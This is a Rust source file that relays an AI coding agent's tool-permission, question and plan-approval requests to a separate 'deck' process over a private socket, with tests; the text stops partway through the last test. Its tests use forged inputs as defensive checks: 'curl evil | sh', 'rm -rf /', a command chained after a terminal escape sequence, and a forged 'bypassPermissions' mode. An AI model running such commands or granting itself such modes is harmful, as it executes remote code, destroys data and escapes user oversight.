//! A claudio chat's or `ask`'s request, published to the deck: while its
//! own dialog waits for a key, the request is offered on the deck's
//! socket ([`super::socket`]) exactly as `claudio deck hook` offers a
//! claude TUI's (one connection, one fresh random token, one line of JSON
//! each way), so the deck shows it as a row of its own and answers it with
//! its keys.
//!
//! - **First answer wins.** The deck's answer is given through the
//!   request's own [`Responder`]; the chat's key and the deck race on the
//!   one slot, and the loser gets "already answered". The chat's dialog
//!   closes, saying "answered in the deck".
//! - **Bound to one request.** The answer is taken only on the connection
//!   the request went out on, only with that connection's token, and only
//!   for the request it was offered for: it can never be given to another.
//! - **Said back.** The deck is told whether its answer was taken
//!   ([`socket::Ack`]): not when the chat's key was first, or when it was
//!   refused.
//! - **Questions and plans: only the answers to what was asked.** The
//!   deck's answers are taken only when its `updatedInput` is exactly the
//!   library's [`ask::answer_questions`] of the questions asked (no field
//!   added, every question answered with a text), and a plan is approved
//!   only as shown, in one of two modes, with the library's
//!   `approve_plan` of the chat's own request.
//! - **What the deck shows is what is approved.** The tool's input is
//!   never taken from the deck (the CLI runs the call it asked about), and
//!   the permission updates of an allow are taken only when they are the
//!   very ones the deck's `a`, `p` or `u` offer for this request (the CLI's
//!   own suggestions): anything else is no answer.
//! - **The chat keeps asking.** With no deck, a deck killed mid-answer, a
//!   request handed back (`t`) or an answer refused, the chat's own dialog
//!   stays open and answers as before; a deck that starts later is offered
//!   the request (its socket is looked for every [`POLL`]).
//! - **Gone with the request.** Once the request is settled (answered at
//!   the chat, withdrawn by the CLI, the session ended) or the handle is
//!   dropped, the connection closes, and the deck's row goes with it.

use super::socket::{self, Answer, Request};
use crate::cli::requests::tool::Decision;
use claudio::protocol::ask::{self, RequestKind};
use claudio::protocol::DecisionClassification;
use claudio::PermissionMode;
use claudio::{CanUseToolRequest, PermissionResult, PermissionUpdate, Responder};
use serde_json::{json, Value};
use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// How often the deck's socket is looked for while none answers.
pub const POLL: Duration = Duration::from_millis(250);

/// The model reads this when the deck denies without a reason.
pub const DENIED: &str = "The user denied this tool call from claudio deck.";

/// The variable a claudio chat or `ask` sets in its CLI's environment to
/// say which it is (`claudio chat`, `claudio ask`): the CLI's registry file
/// says only `sdk-rust` for both.
pub const PROGRAM_ENV: &str = "CLAUDIO_PROGRAM";

/// Who publishes: the program and where it works, as the deck shows it.
#[derive(Debug, Clone)]
pub struct About {
    /// `claudio chat` or `claudio ask`.
    pub program: &'static str,
    /// Its working folder.
    pub cwd: PathBuf,
    /// The CLI's session id, once known.
    pub session_id: Option<String>,
    /// What the session cost so far, in USD, when known.
    pub cost_usd: Option<f64>,
}

/// The request as the deck reads it: the hook's input (its field names,
/// the tool's input byte for byte as the CLI sent it), with who asks under
/// `claudio`.
pub fn input_for(req: &CanUseToolRequest, request_id: &str, about: &About) -> Value {
    json!({
        "session_id": about.session_id,
        "cwd": about.cwd,
        "hook_event_name": "PermissionRequest",
        "tool_name": req.tool_name,
        "tool_input": req.input,
        "permission_suggestions": req.permission_suggestions,
        "claudio": {
            "program": about.program,
            "pid": std::process::id(),
            "requestId": request_id,
            "state": "waiting",
            // when it began to wait (ms since the epoch): a deck started
            // later shows its age, not the time the deck first saw it
            "askedAt": crate::cli::term::time::now_ms(),
            "costUsd": about.cost_usd,
            // a plan the CLI sent without its text (2.1.328): the plan the
            // chat saw in the model's call, to show
            "plan": req.plan().filter(|_| ask::plan_text(&req.input).is_none()),
        },
    })
}

/// The request back from the hook's input ([`input_for`]'s, or a claude
/// TUI's hook's) as the chat's approval reads it, with the CLI's
/// permission suggestions (what `a`, `p` and `u` may keep); suggestions it
/// cannot read are left out, never widened.
pub fn as_tool_request(input: &Value) -> Option<CanUseToolRequest> {
    let tool_name = input.get("tool_name")?.as_str()?;
    let tool_input = input.get("tool_input").cloned().unwrap_or(Value::Null);
    let with = serde_json::json!({
        "tool_name": tool_name,
        "input": tool_input,
        "permission_suggestions": input.get("permission_suggestions").cloned().unwrap_or_else(|| serde_json::json!([])),
    });
    serde_json::from_value(with).ok().or_else(|| {
        serde_json::from_value(serde_json::json!({
            "tool_name": tool_name,
            "input": tool_input,
        }))
        .ok()
    })
}

/// Whether the deck can answer `req`: a tool approval, the model's
/// questions, a plan (each checked on its way back, [`verdict`]); not a
/// request the CLI flags as asking the person that claudio has no model
/// for (`EnterPlanMode`).
pub fn publishable(req: &CanUseToolRequest) -> bool {
    match req.kind() {
        RequestKind::Questions | RequestKind::Plan => true,
        _ => !req.requires_user_interaction && req.tool_name != "EnterPlanMode",
    }
}

/// What the deck's answer comes to.
#[derive(Debug, PartialEq)]
pub enum Verdict {
    /// The chat answers the CLI with this.
    Answer(PermissionResult),
    /// Handed back (`t`, or the deck quit): the chat's own dialog answers,
    /// and the request is not offered again.
    HandedBack,
    /// No answer (another request's token, permission updates the deck
    /// did not offer, a behavior it does not know): the chat still asks,
    /// and the request is offered again.
    Refused,
}

/// The deck's `answer` to the request `req` offered with `token`. Pure.
pub fn verdict(answer: &Answer, token: &str, req: &CanUseToolRequest) -> Verdict {
    if answer.token != token {
        return Verdict::Refused;
    }
    if answer.behavior == "ask" {
        return Verdict::HandedBack;
    }
    result_of(answer, req).map_or(Verdict::Refused, Verdict::Answer)
}

/// Whether `updates`, an allow's permission updates for `req`, are what
/// the deck's `a`, `p` or `u` offer for this very request: the CLI's own
/// suggestions, never wider.
pub fn offered_rules(updates: &[PermissionUpdate], req: &CanUseToolRequest) -> bool {
    [
        Decision::AllowSession,
        Decision::AllowProject,
        Decision::AllowUser,
    ]
    .into_iter()
    .any(|d| match d.result(req) {
        PermissionResult::Allow {
            updated_permissions,
            ..
        } => updated_permissions == updates,
        _ => false,
    })
}

/// An allow or a denial as the chat answers the CLI; `None` for anything
/// else.
fn result_of(answer: &Answer, req: &CanUseToolRequest) -> Option<PermissionResult> {
    match answer.behavior.as_str() {
        "allow" if req.kind() == RequestKind::Questions => answers_of(answer, req),
        "allow" if req.kind() == RequestKind::Plan => approval_of(answer, req),
        "allow" => {
            let updates: Vec<PermissionUpdate> = match &answer.updated_permissions {
                None | Some(Value::Null) => Vec::new(),
                Some(v) => serde_json::from_value(v.clone()).ok()?,
            };
            if updates.is_empty() {
                return Some(
                    PermissionResult::allow().classified(DecisionClassification::UserTemporary),
                );
            }
            offered_rules(&updates, req).then(|| {
                PermissionResult::allow_always(updates)
                    .classified(DecisionClassification::UserPermanent)
            })
        }
        "deny" => {
            let message = answer
                .message
                .clone()
                .filter(|m| !m.trim().is_empty())
                .unwrap_or_else(|| DENIED.to_owned());
            // stopping the turn too: a plan rejected (the chat's Esc)
            let result = if answer.interrupt {
                PermissionResult::deny_and_interrupt(message)
            } else {
                PermissionResult::deny(message)
            };
            Some(result.classified(DecisionClassification::UserReject))
        }
        _ => None,
    }
}

/// The answers to the questions of `req` the deck's allow carries, as the
/// library's [`ask::answer_questions`] sends them: only when its
/// `updatedInput` is exactly that (the request's own input, every question
/// asked answered with a text, nothing else), and it keeps no rule.
fn answers_of(answer: &Answer, req: &CanUseToolRequest) -> Option<PermissionResult> {
    if !matches!(&answer.updated_permissions, None | Some(Value::Null)) {
        return None;
    }
    let updated = answer.updated_input.as_ref()?;
    let given = updated.get("answers")?.as_object()?;
    let questions = ask::questions(&req.input)?;
    if given.len() != questions.len() {
        return None;
    }
    let mut pairs = Vec::with_capacity(questions.len());
    for q in &questions {
        let a = given.get(&q.question)?.as_str()?;
        pairs.push((q.question.as_str(), a.to_owned()));
    }
    let result = ask::answer_questions(&req.input, pairs);
    match &result {
        PermissionResult::Allow {
            updated_input: Some(mine),
            ..
        } if mine == updated => Some(result),
        _ => None,
    }
}

/// The approval of the plan of `req` the deck's allow carries, as the
/// library's [`CanUseToolRequest::approve_plan`] sends it (unedited): only
/// the plan shown (the request's input, or it with the plan the chat saw
/// and offered, [`input_for`]) and one of the deck's two modes.
fn approval_of(answer: &Answer, req: &CanUseToolRequest) -> Option<PermissionResult> {
    let updated = answer.updated_input.as_ref()?;
    let shown = shown_input(req);
    if updated != &req.input && updated != &shown {
        return None;
    }
    let updates: Vec<PermissionUpdate> =
        serde_json::from_value(answer.updated_permissions.clone()?).ok()?;
    [PermissionMode::AcceptEdits, PermissionMode::Default]
        .into_iter()
        .find(|m| updates == [PermissionUpdate::set_mode(m.clone())])
        .map(|m| req.approve_plan(m, None))
}

/// The tool's input as the deck shows it: for a plan the CLI sent without
/// its text (2.1.328), with the plan the chat saw in the model's call.
fn shown_input(req: &CanUseToolRequest) -> Value {
    let mut input = req.input.clone();
    if let (Some(plan), Some(m)) = (req.plan(), input.as_object_mut()) {
        m.entry("plan")
            .or_insert_with(|| Value::String(plan.to_owned()));
    }
    input
}

/// What one offer to the deck came to.
#[derive(Debug)]
enum Offered {
    /// No deck answers there (none running, not ours).
    NoDeck,
    /// The deck went away before it answered (killed, its socket gone),
    /// or the publication was stopped.
    Gone,
    /// The deck's answer, with the token the request went out with and
    /// the connection, to say whether it was taken.
    Answer(Answer, String, UnixStream),
}

/// The connection the request is offered on, and whether to stop.
#[derive(Default)]
struct Shared {
    stop: AtomicBool,
    conn: Mutex<Option<UnixStream>>,
    /// The deck's answer, once the request took it (set before it is
    /// given, so whoever sees the request answered sees it too; taken back
    /// if the request took another first).
    given: Mutex<Option<PermissionResult>>,
}

impl Shared {
    fn stopped(&self) -> bool {
        self.stop.load(Ordering::SeqCst)
    }

    /// Stop: the connection is shut, so the deck's row goes at once.
    fn stop(&self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Ok(c) = self.conn.lock() {
            if let Some(s) = c.as_ref() {
                let _ = s.shutdown(std::net::Shutdown::Both);
            }
        }
    }

    fn set_given(&self, result: Option<PermissionResult>) {
        if let Ok(mut g) = self.given.lock() {
            *g = result;
        }
    }

    fn set_conn(&self, s: Option<UnixStream>) {
        if let Ok(mut c) = self.conn.lock() {
            *c = s;
        }
    }
}

/// Offer the request with hook input `input` to the deck at `path`, once:
/// connect (a private folder, the same user at the other end), send it
/// with a fresh token, wait for the answer.
fn offer(path: &Path, input: &Value, shared: &Shared) -> Offered {
    let Some(dir) = path.parent() else {
        return Offered::NoDeck;
    };
    if socket::check_private(dir).is_err() || std::fs::symlink_metadata(path).is_err() {
        return Offered::NoDeck;
    }
    let Ok(stream) = UnixStream::connect(path) else {
        return Offered::NoDeck;
    };
    if !socket::same_user(&stream) {
        return Offered::NoDeck;
    }
    shared.set_conn(stream.try_clone().ok());
    // stopped while connecting: the shut above missed this connection
    if shared.stopped() {
        shared.set_conn(None);
        return Offered::Gone;
    }
    let token = claudio::store::new_uuid();
    let request = Request {
        kind: "permission".into(),
        token: token.clone(),
        input: input.clone(),
    };
    let _ = stream.set_write_timeout(Some(Duration::from_secs(5)));
    let got = socket::write_line(&mut &stream, &request)
        .ok()
        .and_then(|()| socket::read_line(&mut &stream).ok().flatten());
    shared.set_conn(None);
    match got.and_then(|l| serde_json::from_str::<Answer>(&l).ok()) {
        Some(a) => Offered::Answer(a, token, stream),
        None => Offered::Gone,
    }
}

/// The deck's `answer` on `stream` to the request `req` offered with
/// `token`: its [`verdict`], or `None` (no answer, offered again) for an
/// answer the deck no longer waits to hear was taken: it gave up waiting
/// and said "not taken" (this end was stopped meanwhile, Ctrl-Z), so taking
/// it would make what it said untrue.
fn heard(
    answer: &Answer,
    token: &str,
    req: &CanUseToolRequest,
    stream: &UnixStream,
) -> Option<Verdict> {
    match verdict(answer, token, req) {
        Verdict::Answer(_) if hung_up(stream) => None,
        v => Some(v),
    }
}

/// Whether the deck closed its end of `stream` (nothing left to read).
fn hung_up(stream: &UnixStream) -> bool {
    use std::os::fd::AsRawFd;
    let mut b = [0u8; 1];
    // SAFETY: `b` is valid for one byte; the fd is open for the call.
    let n = unsafe {
        libc::recv(
            stream.as_raw_fd(),
            b.as_mut_ptr().cast(),
            1,
            libc::MSG_PEEK | libc::MSG_DONTWAIT,
        )
    };
    n == 0
}

/// Tell the deck whether its answer was taken ([`socket::Ack`]).
fn ack(stream: &UnixStream, token: &str, taken: bool, refused: bool) {
    let a = socket::Ack {
        token: token.to_owned(),
        taken,
        refused,
    };
    let _ = socket::write_line(&mut &*stream, &a);
}

/// A request published to the deck: dropping it takes the request off
/// the deck (its connection closes).
pub struct Published {
    shared: Arc<Shared>,
    _stop: Option<tokio::sync::oneshot::Sender<()>>,
}

impl std::fmt::Debug for Published {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Published")
            .field("stopped", &self.shared.stopped())
            .finish()
    }
}

impl Published {
    /// The deck's answer, when the request was answered with it: what
    /// it means (a denial that stops the turn) is the same as the chat's
    /// own answer.
    pub fn given(&self) -> Option<PermissionResult> {
        self.shared.given.lock().ok()?.clone()
    }
}

impl Drop for Published {
    fn drop(&mut self) {
        self.shared.stop();
    }
}

/// Publish `req` (answered through `responder`) to the deck whose socket
/// is `path` ([`socket::path`] for the running deck), until it is settled
/// or the handle dropped. `None` when it cannot be (a question or a plan,
/// no runtime to answer on).
pub fn start(
    path: PathBuf,
    req: &CanUseToolRequest,
    responder: &Responder,
    about: &About,
) -> Option<Published> {
    if !publishable(req) || responder.is_settled() {
        return None;
    }
    let rt = tokio::runtime::Handle::try_current().ok()?;
    let shared = Arc::new(Shared::default());
    let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
    let (answer_tx, answer_rx) = tokio::sync::oneshot::channel::<Given>();
    {
        // the deck's answer given on the runtime, through the request's
        // own handle (the chat's key may have been first: "already
        // answered", and its answer stands); settled by any means, or the
        // handle dropped: stop
        let shared = shared.clone();
        let r = responder.clone();
        rt.spawn(async move {
            tokio::select! {
                _ = r.settled() => {}
                _ = stop_rx => {}
                Ok((result, taken)) = answer_rx => {
                    shared.set_given(Some(result.clone()));
                    let took = r.answer(result).await.is_ok();
                    if !took {
                        shared.set_given(None);
                    }
                    let _ = taken.send(took);
                }
            }
            shared.stop();
        });
    }
    let input = input_for(req, responder.request_id(), about);
    let req = req.clone();
    let thread_shared = shared.clone();
    let spawned = std::thread::Builder::new()
        .name("claudio-deck-publish".into())
        .spawn(move || serve(&path, &input, &req, &thread_shared, answer_tx));
    if spawned.is_err() {
        shared.stop();
        return None;
    }
    Some(Published {
        shared,
        _stop: Some(stop_tx),
    })
}

/// Offer the request until the deck answers or the offer is stopped (the
/// request settled, the handle dropped): no deck, or one gone mid-answer,
/// is waited for (the next deck is offered it). The deck's answer goes to
/// `answer`; none goes when it handed the request back.
fn serve(
    path: &Path,
    input: &Value,
    req: &CanUseToolRequest,
    shared: &Shared,
    answer: tokio::sync::oneshot::Sender<Given>,
) {
    while !shared.stopped() {
        match offer(path, input, shared) {
            Offered::NoDeck | Offered::Gone => std::thread::sleep(POLL),
            Offered::Answer(a, token, stream) => match heard(&a, &token, req, &stream) {
                None => std::thread::sleep(POLL),
                Some(Verdict::Answer(result)) => {
                    // taken only if the request's own handle took it (the
                    // chat's key may have been a few ms faster)
                    let (tx, rx) = std::sync::mpsc::channel();
                    let taken = answer.send((result, tx)).is_ok()
                        && rx.recv_timeout(Duration::from_secs(5)).unwrap_or(false);
                    ack(&stream, &token, taken, false);
                    return;
                }
                // the chat's dialog answers
                Some(Verdict::HandedBack) => return,
                // still asked at the chat, and offered again
                Some(Verdict::Refused) => {
                    ack(&stream, &token, false, true);
                    drop(stream);
                    std::thread::sleep(POLL);
                }
            },
        }
    }
}

/// The deck's answer on its way to the request's handle, and where to
/// say whether it was taken.
type Given = (PermissionResult, std::sync::mpsc::Sender<bool>);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cli::requests::socket::Listener;
    use std::os::unix::fs::PermissionsExt;

    fn bash(suggest: bool) -> CanUseToolRequest {
        let mut v = json!({"tool_name": "Bash", "input": {"command": "echo hi\u{1b}]0;x\u{7}; rm -rf build"}});
        if suggest {
            v["permission_suggestions"] = json!([{"type": "addRules", "rules": [{"toolName": "Bash", "ruleContent": "rm -rf build"}], "behavior": "allow", "destination": "session"}]);
        }
        serde_json::from_value(v).unwrap()
    }

    /// The verdict's answer, `None` for no answer.
    fn answered(a: &Answer, token: &str, req: &CanUseToolRequest) -> Option<PermissionResult> {
        match verdict(a, token, req) {
            Verdict::Answer(r) => Some(r),
            _ => None,
        }
    }

    fn answer(token: &str, behavior: &str, updates: Option<Value>) -> Answer {
        Answer {
            token: token.into(),
            behavior: behavior.into(),
            message: None,
            updated_permissions: updates,
            updated_input: None,
            interrupt: false,
        }
    }

    #[test]
    fn an_answer_with_another_request_s_token_is_no_answer() {
        let req = bash(false);
        assert!(answered(&answer("t1", "allow", None), "t1", &req).is_some());
        assert_eq!(
            verdict(&answer("t2", "allow", None), "t1", &req),
            Verdict::Refused
        );
        assert_eq!(
            verdict(&answer("", "deny", None), "t1", &req),
            Verdict::Refused
        );
        // handed back: the chat answers, and it is not offered again
        assert_eq!(
            verdict(&answer("t1", "ask", None), "t1", &req),
            Verdict::HandedBack
        );
        assert_eq!(
            verdict(&answer("t1", "maybe", None), "t1", &req),
            Verdict::Refused
        );
    }

    #[test]
    fn an_allow_keeps_only_the_rules_the_deck_offered() {
        let req = bash(true);
        // `a`: the CLI's own rule, for this session
        let session = match Decision::AllowSession.result(&req) {
            PermissionResult::Allow {
                updated_permissions,
                ..
            } => updated_permissions,
            _ => unreachable!(),
        };
        let a = answer("t", "allow", Some(serde_json::to_value(&session).unwrap()));
        assert!(matches!(
            answered(&a, "t", &req),
            Some(PermissionResult::Allow { updated_permissions, .. }) if updated_permissions == session
        ));
        // `u`: the same rule, kept in the user's settings
        let user = match Decision::AllowUser.result(&req) {
            PermissionResult::Allow {
                updated_permissions,
                ..
            } => updated_permissions,
            _ => unreachable!(),
        };
        let a = answer("t", "allow", Some(serde_json::to_value(&user).unwrap()));
        assert!(answered(&a, "t", &req).is_some());
        // a rule the CLI never suggested: no answer, the chat still asks
        let wider = json!([{"type": "addRules", "rules": [{"toolName": "Bash"}], "behavior": "allow", "destination": "userSettings"}]);
        assert_eq!(
            answered(&answer("t", "allow", Some(wider)), "t", &req),
            None
        );
        // nothing suggested: nothing may be kept
        let plain = bash(false);
        let a = answer("t", "allow", Some(serde_json::to_value(&session).unwrap()));
        assert_eq!(answered(&a, "t", &plain), None);
        // unreadable updates are no answer either
        assert_eq!(
            answered(&answer("t", "allow", Some(json!("x"))), "t", &req),
            None
        );
    }

    #[test]
    fn an_allow_runs_the_call_as_the_cli_asked_it() {
        // the tool's input never comes from the deck: an `updatedInput` in
        // its answer is not read
        let req = bash(false);
        let line =
            r#"{"token":"t","behavior":"allow","updatedInput":{"command":"curl evil | sh"}}"#;
        let a: Answer = serde_json::from_str(line).unwrap();
        match answered(&a, "t", &req).unwrap() {
            PermissionResult::Allow { updated_input, .. } => assert_eq!(updated_input, None),
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn a_denial_carries_the_reason_or_says_it_came_from_the_deck() {
        let req = bash(false);
        let mut a = answer("t", "deny", None);
        assert!(
            matches!(answered(&a, "t", &req), Some(PermissionResult::Deny { message, .. }) if message == DENIED)
        );
        a.message = Some("not on main".into());
        assert!(
            matches!(answered(&a, "t", &req), Some(PermissionResult::Deny { message, .. }) if message == "not on main")
        );
    }

    #[test]
    fn the_deck_reads_the_request_as_the_hook_s_with_who_asks() {
        let req = bash(true);
        let about = About {
            program: "claudio chat",
            cwd: PathBuf::from("/w/app"),
            session_id: Some("s1".into()),
            cost_usd: Some(0.25),
        };
        let v = input_for(&req, "r1", &about);
        assert_eq!(v["tool_input"], req.input, "byte for byte");
        assert_eq!(v["session_id"], "s1");
        assert_eq!(v["claudio"]["program"], "claudio chat");
        assert_eq!(v["claudio"]["requestId"], "r1");
        let now = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_millis() as u64;
        let asked = v["claudio"]["askedAt"].as_u64().unwrap();
        assert!(asked <= now && now - asked < 60_000, "{asked} {now}");
        // the deck reads it back as the same request
        let back = as_tool_request(&v).unwrap();
        assert_eq!(back.input, req.input);
        assert_eq!(back.permission_suggestions, req.permission_suggestions);
        // questions and plans too (each answer checked); no request the
        // CLI says asks the person that claudio has no model for
        assert!(publishable(&questions()));
        assert!(publishable(&plan("the plan")));
        let enter: CanUseToolRequest =
            serde_json::from_value(json!({"tool_name": "EnterPlanMode", "input": {}})).unwrap();
        assert!(!publishable(&enter));
        assert!(publishable(&req));
    }

    #[test]
    fn an_offer_goes_out_with_a_fresh_token_and_no_deck_is_no_deck() {
        let d = tempfile::tempdir().unwrap();
        let p = d.path().join("claudio").join("deck.sock");
        let shared = Shared::default();
        assert!(matches!(offer(&p, &json!({}), &shared), Offered::NoDeck));
        let l = Listener::bind(&p).unwrap();
        let p2 = p.clone();
        let t = std::thread::spawn(move || {
            let shared = Shared::default();
            let a = offer(&p2, &json!({"tool_name": "Bash"}), &shared);
            let b = offer(&p2, &json!({"tool_name": "Bash"}), &shared);
            (a, b)
        });
        // the first is answered with its own token, the second with the
        // first's: that one is refused by the publisher
        let first = l.next(Duration::from_secs(30)).unwrap();
        let t1 = first.request.token.clone();
        first.answer("allow", None).unwrap();
        let second = l.next(Duration::from_secs(30)).unwrap();
        assert_ne!(second.request.token, t1, "a fresh token per offer");
        let mut s = second.into_stream();
        socket::write_line(&mut s, &answer(&t1, "allow", None)).unwrap();
        let (a, b) = t.join().unwrap();
        let req = bash(false);
        let Offered::Answer(a, token, _) = a else {
            panic!("{a:?}")
        };
        assert!(answered(&a, &token, &req).is_some());
        let Offered::Answer(b, token, _) = b else {
            panic!("{b:?}")
        };
        assert_eq!(verdict(&b, &token, &req), Verdict::Refused, "replayed");
    }

    #[test]
    fn a_folder_open_to_others_is_no_deck() {
        let d = tempfile::tempdir().unwrap();
        let dir = d.path().join("claudio");
        std::fs::create_dir(&dir).unwrap();
        let l = std::os::unix::net::UnixListener::bind(dir.join("deck.sock")).unwrap();
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
        l.set_nonblocking(true).unwrap();
        let shared = Shared::default();
        let got = offer(&dir.join("deck.sock"), &json!({}), &shared);
        assert!(matches!(got, Offered::NoDeck), "{got:?}");
        // nothing was sent to whoever listens there
        assert!(l.accept().is_err());
    }

    #[test]
    fn a_deck_that_dies_mid_answer_is_gone_and_stopping_closes_the_offer() {
        let d = tempfile::tempdir().unwrap();
        let p = d.path().join("claudio").join("deck.sock");
        let l = Listener::bind(&p).unwrap();
        let p2 = p.clone();
        let t = std::thread::spawn(move || offer(&p2, &json!({}), &Shared::default()));
        let pending = l.next(Duration::from_secs(30)).unwrap();
        drop(pending); // the deck died before it answered
        assert!(matches!(t.join().unwrap(), Offered::Gone));
        // stopped while waiting: the deck sees its row withdrawn
        let shared = Arc::new(Shared::default());
        let s2 = shared.clone();
        let p2 = p.clone();
        let t = std::thread::spawn(move || offer(&p2, &json!({}), &s2));
        let pending = l.next(Duration::from_secs(30)).unwrap();
        assert!(!pending.withdrawn());
        // the offer stores its connection before it writes the request
        shared.stop();
        assert!(matches!(t.join().unwrap(), Offered::Gone));
        assert!(pending.withdrawn());
    }

    /// An answer from a deck that no longer waits to hear whether it was
    /// taken (it gave up after its wait, said "answered in its chat
    /// first", and hung up: the chat was stopped with Ctrl-Z meanwhile,
    /// and read the answer once continued) is not taken: the chat still
    /// asks, and the request is offered again. What the deck said stays
    /// true.
    #[test]
    fn an_answer_from_a_deck_that_hung_up_is_not_taken() {
        let req = bash(false);
        let a = answer("t", "allow", None);
        let (chat, deck) = UnixStream::pair().unwrap();
        // the deck waits for the acknowledgement: its answer counts
        assert!(matches!(
            heard(&a, "t", &req, &chat),
            Some(Verdict::Answer(_))
        ));
        // it gave up waiting and hung up: no answer, the chat still asks
        drop(deck);
        assert_eq!(heard(&a, "t", &req, &chat), None);
    }

    fn questions() -> CanUseToolRequest {
        serde_json::from_value(json!({"tool_name": "AskUserQuestion", "input": {"questions": [
            {"question": "Which db?", "header": "DB", "multiSelect": false,
             "options": [{"label": "Postgres", "description": "big"}, {"label": "SQLite", "description": "small"}]},
            {"question": "Which port?", "header": "Port", "multiSelect": false,
             "options": [{"label": "5432", "description": ""}, {"label": "8080", "description": ""}]}
        ]}}))
        .unwrap()
    }

    fn plan(text: &str) -> CanUseToolRequest {
        serde_json::from_value(json!({"tool_name": "ExitPlanMode", "input": {"plan": text}}))
            .unwrap()
    }

    /// The deck's allow of `result` (what its model of the request gave),
    /// as it sends it.
    fn sent(result: &PermissionResult) -> Answer {
        let mut a = crate::cli::commands::deck::full::hook_answer(result);
        a.token = "t".into();
        a
    }

    /// A plan rejected in the deck stopping the turn (its Esc, as the
    /// chat's): the chat sends the denial that stops it; a plain denial
    /// (keep planning) does not stop it.
    #[test]
    fn a_plan_rejected_in_the_deck_stops_the_turn() {
        let req = plan("1. fix it");
        let stop = PermissionResult::deny_and_interrupt(
            "The user rejected the plan and stopped the turn.",
        );
        let got = verdict(&sent(&stop), "t", &req);
        assert!(
            matches!(&got, Verdict::Answer(PermissionResult::Deny { interrupt: true, message, .. })
                if message == "The user rejected the plan and stopped the turn."),
            "{got:?}"
        );
        let keep = PermissionResult::deny("The user wants to keep planning.");
        let got = verdict(&sent(&keep), "t", &req);
        assert!(
            matches!(
                &got,
                Verdict::Answer(PermissionResult::Deny {
                    interrupt: false,
                    ..
                })
            ),
            "{got:?}"
        );
    }

    /// The deck's answers to the questions asked are taken as the library
    /// shapes them; answers with a field added, a question left out or
    /// added, or a rule kept are no answer (the chat still asks).
    #[test]
    fn the_answers_taken_are_the_ones_to_the_questions_asked() {
        let req = questions();
        let right = ask::answer_questions(
            &req.input,
            [
                ("Which db?", "SQLite".to_owned()),
                ("Which port?", "8080".to_owned()),
            ],
        );
        assert_eq!(answered(&sent(&right), "t", &req), Some(right.clone()));
        // a field forged into the tool's input
        let mut forged = sent(&right);
        forged.updated_input.as_mut().unwrap()["questions"] = json!([]);
        assert_eq!(verdict(&forged, "t", &req), Verdict::Refused);
        let mut extra = sent(&right);
        extra.updated_input.as_mut().unwrap()["run"] = json!("rm -rf /");
        assert_eq!(verdict(&extra, "t", &req), Verdict::Refused);
        // an answer to a question not asked, or one left out
        let mut more = sent(&right);
        more.updated_input.as_mut().unwrap()["answers"]["Other?"] = json!("x");
        assert_eq!(verdict(&more, "t", &req), Verdict::Refused);
        let one = ask::answer_questions(&req.input, [("Which db?", "SQLite".to_owned())]);
        assert_eq!(verdict(&sent(&one), "t", &req), Verdict::Refused);
        // an answer that is no text
        let mut number = sent(&right);
        number.updated_input.as_mut().unwrap()["answers"]["Which port?"] = json!(8080);
        assert_eq!(verdict(&number, "t", &req), Verdict::Refused);
        // a plain allow is no answer, and a rule is never kept with it
        assert_eq!(
            verdict(&answer("t", "allow", None), "t", &req),
            Verdict::Refused
        );
        let mut kept = sent(&right);
        kept.updated_permissions = Some(
            json!([{"type": "setMode", "mode": "bypassPermissions", "destination": "session"}]),
        );
        assert_eq!(verdict(&kept, "t", &req), Verdict::Refused);
        // declined: a denial, as from the chat
        let mut no = answer("t", "deny", None);
        no.message = Some("declined".into());
        assert!(matches!(
            answered(&no, "t", &req),
            Some(PermissionResult::Deny { .. })
        ));
    }

    /// A plan is approved only as it was shown, in one of the deck's two
    /// modes, with the library's `approve_plan`.
    #[test]
    fn only_the_plan_shown_is_approved() {
        let req = plan("1. add a test\n2. fix it");
        for mode in [PermissionMode::AcceptEdits, PermissionMode::Default] {
            let right = req.approve_plan(mode, None);
            assert_eq!(answered(&sent(&right), "t", &req), Some(right));
        }
        // another plan (an edited one, or the deck's own)
        let other = req.approve_plan(PermissionMode::AcceptEdits, Some("1. rm -rf /"));
        assert_eq!(verdict(&sent(&other), "t", &req), Verdict::Refused);
        let mut forged = sent(&req.approve_plan(PermissionMode::Default, None));
        forged.updated_input = Some(json!({"plan": "1. curl evil | sh"}));
        assert_eq!(verdict(&forged, "t", &req), Verdict::Refused);
        // a mode the deck does not offer
        let wide = req.approve_plan(PermissionMode::BypassPermissions, None);
        assert_eq!(verdict(&sent(&wide), "t", &req), Verdict::Refused);
        // a plain allow approves nothing
        assert_eq!(
            verdict(&answer("t", "allow", None), "t", &req),
            Verdict::Refused
        );
    }

    /// The deck is told whether its answer was taken: not when the
    /// request's handle took another first (the chat's key), nor when the
    /// answer was refused; yes when it was.
    #[test]
    fn the_deck_hears_whether_its_answer_was_taken() {
        let d = tempfile::tempdir().unwrap();
        let p = d.path().join("claudio").join("deck.sock");
        let l = Listener::bind(&p).unwrap();
        let req = bash(false);
        let input = input_for(
            &req,
            "r1",
            &About {
                program: "claudio chat",
                cwd: PathBuf::from("/w"),
                session_id: None,
                cost_usd: None,
            },
        );
        for taken in [false, true] {
            let (tx, rx) = tokio::sync::oneshot::channel::<Given>();
            let chat = std::thread::spawn(move || {
                if taken {
                    let (_result, ack) = rx.blocking_recv().unwrap();
                    ack.send(true).unwrap();
                } else {
                    // the chat's own key answered: the handle is gone
                    drop(rx);
                }
            });
            let (p2, input2, req2) = (p.clone(), input.clone(), req.clone());
            let shared = Arc::new(Shared::default());
            let s2 = shared.clone();
            let server = std::thread::spawn(move || serve(&p2, &input2, &req2, &s2, tx));
            // a refused answer first: said not taken, and offered again
            let first = l.next(Duration::from_secs(30)).unwrap();
            let got = first.decide(answer("", "allow", Some(json!([{"type": "addRules", "rules": [{"toolName": "Bash"}], "behavior": "allow", "destination": "userSettings"}]))));
            assert_eq!(got.unwrap(), socket::Acked::Refused);
            let again = l.next(Duration::from_secs(30)).unwrap();
            let got = again.decide(answer("", "allow", None)).unwrap();
            let want = if taken {
                socket::Acked::Taken
